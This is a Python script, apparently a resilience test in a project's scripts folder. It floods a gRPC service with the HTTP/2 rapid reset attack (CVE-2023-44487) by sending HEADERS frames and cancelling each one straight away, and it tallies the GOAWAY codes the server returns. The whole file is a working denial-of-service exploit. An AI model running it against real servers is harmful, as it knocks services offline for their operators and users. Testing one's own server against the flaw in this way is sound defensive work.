"""HTTP/2 rapid reset (CVE-2023-44487) against the gRPC port: HEADERS (GetPartner, no END_STREAM)
then RST_STREAM(CANCEL), in batches, on one connection at a time, reconnecting whenever the server
ends it. Prints streams sent, connections and the GOAWAY codes received (11 = ENHANCE_YOUR_CALM).
Raw frames, standard library only.

    python3 scripts/rapid_reset.py HOST PORT API_KEY SECONDS [BATCH]

Used by scripts/rapid-reset-h2load.sh.
"""
import socket, struct, sys, time, collections

host, port, key, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
batch = int(sys.argv[5]) if len(sys.argv) > 5 else 100

def frame(kind, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", sid) + payload

def lit(name, value):
    out = bytes([name]) if isinstance(name, int) else b"\x00" + bytes([len(name)]) + name
    return out + bytes([len(value)]) + value

block = b"\x83\x86" + lit(4, b"/partners.v1.PartnerService/GetPartner") + lit(1, b"localhost") \
    + lit(b"content-type", b"application/grpc") + lit(b"te", b"trailers") \
    + lit(b"authorization", ("Bearer " + key).encode())

end = time.monotonic() + seconds
streams = conns = 0
goaways = collections.Counter()
while time.monotonic() < end:
    s = socket.create_connection((host, port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.setblocking(True)
    conns += 1
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(4, 1, 0))
    s.setblocking(False)
    sid = 1
    buf = b""
    alive = True
    while alive and time.monotonic() < end and sid < 2**31 - 2 * batch:
        out = bytearray()
        for _ in range(batch):
            out += frame(1, 4, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
            sid += 2
        try:
            s.setblocking(True)
            s.sendall(out)
            streams += batch
            s.setblocking(False)
            while True:
                data = s.recv(65536)
                if not data:
                    alive = False
                    break
                buf += data
        except BlockingIOError:
            pass
        except OSError:
            alive = False
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            if buf[3] == 7:
                goaways[int.from_bytes(buf[9 + 4:9 + 8], "big")] += 1
                alive = False
            buf = buf[9 + n:]
    s.close()
print(f"rapid reset: {streams} streams ({streams / seconds:.0f}/s) over {conns} connections; GOAWAY codes {dict(goaways)}")
